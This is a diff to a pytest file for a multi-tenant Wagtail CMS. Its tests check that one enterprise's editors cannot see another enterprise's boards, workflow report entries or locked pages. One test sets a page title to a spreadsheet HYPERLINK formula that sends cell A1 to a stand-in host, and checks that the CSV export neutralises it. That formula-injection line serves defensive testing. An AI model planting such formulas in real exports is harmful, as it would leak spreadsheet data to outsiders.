@@ -1,17 +1,21 @@
 """An enterprise's editor never reads another enterprise's board in Wagtail's admin: the
 explorer, the page chooser, the move confirmation and the workflow reports' filters."""
 
+import csv
+import io
+
 import pytest
 from wagtail.models import Page, WorkflowState
 
 from cms.models import BoardIndexPage, FeeBoardPage
+from cms.services import enterprise_staff_grant
+from tests.factories import UserFactory
 
 pytestmark = pytest.mark.django_db
 
 
 def _submit(board, user):
     """``user`` submits ``board`` to its enterprise's approval workflow."""
-    board = FeeBoardPage.objects.get(pk=board.pk)
     revision = board.save_revision(user=user)
     board.get_workflow().start(board, user)
     return revision
@@ -65,8 +69,8 @@ def test_the_move_confirmation_does_not_show_another_enterprises_board(client, w
 
 @pytest.mark.parametrize("report", ["workflow", "workflow_tasks"])
 def test_workflow_report_filters_name_only_the_editors_own_workflows(client, world, roles, report):
-    _submit(world["a"]["board"], roles["editor_a"])
-    _submit(world["b"]["board"], roles["editor_b"])
+    _submit(FeeBoardPage.objects.get(pk=world["a"]["board"].pk), roles["editor_a"])
+    _submit(FeeBoardPage.objects.get(pk=world["b"]["board"].pk), roles["editor_b"])
     assert WorkflowState.objects.count() == 2
     client.force_login(roles["editor_b"])
 
@@ -77,3 +81,37 @@ def test_workflow_report_filters_name_only_the_editors_own_workflows(client, wor
     assert "anju: manager approval" not in page
     assert roles["editor_a"].email not in page and roles["editor_a"].get_full_name() not in page
     assert world["a"]["board"].title not in page
+
+
+def test_locked_pages_report_names_only_who_locked_the_managers_own_pages(client, world, roles):
+    anju_board = FeeBoardPage.objects.get(pk=world["a"]["board"].pk)
+    anju_board.locked, anju_board.locked_by = True, roles["enterprise_manager"]
+    anju_board.save()
+    jinghua_manager = UserFactory(email="jinghua-manager@example.cn", first_name="Q", last_name="M")
+    enterprise_staff_grant(
+        enterprise=world["b"]["enterprise"], user=jinghua_manager, role="manager"
+    )
+    client.force_login(jinghua_manager)
+
+    page = client.get("/cms/reports/locked/")
+
+    assert page.status_code == 200
+    text = page.content.decode()
+    assert roles["enterprise_manager"].email not in text
+    assert anju_board.title not in text
+
+
+def test_the_workflow_reports_csv_keeps_a_formula_title_as_text(client, world, roles):
+    board = FeeBoardPage.objects.get(pk=world["a"]["board"].pk)
+    board.title = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    _submit(board, roles["editor_a"])
+    client.force_login(roles["editor_a"])
+
+    response = client.get("/cms/reports/workflow/", {"export": "csv"})
+
+    assert response["Content-Disposition"].startswith("attachment")
+    text = b"".join(response.streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any("HYPERLINK" in cell for cell in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
